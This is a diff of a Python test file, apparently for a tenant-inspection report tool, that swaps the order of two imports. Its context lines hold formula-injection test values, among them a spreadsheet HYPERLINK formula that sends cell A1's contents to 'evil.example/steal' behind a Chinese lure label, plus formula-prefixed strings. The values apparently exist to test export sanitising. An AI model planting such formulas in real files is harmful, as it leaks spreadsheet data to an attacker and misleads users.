@@ -30,8 +30,8 @@ from tenants.models import ReportItem, Tenant
 from tests.fixtures.cli import score_json
 from tests.fixtures.verification import RULEBOOK, wust_entry
 from tests.fixtures.workbooks import TODAY
-from tests.test_inspection import SIGNATURE_ROW, filled
 from tests.fixtures.wust import wust_report
+from tests.test_inspection import SIGNATURE_ROW, filled
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看佐证材料")'
 FORMULA_LIKE = ["=1+1", HYPERLINK, " =1+1", "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1)", "#N/A"]
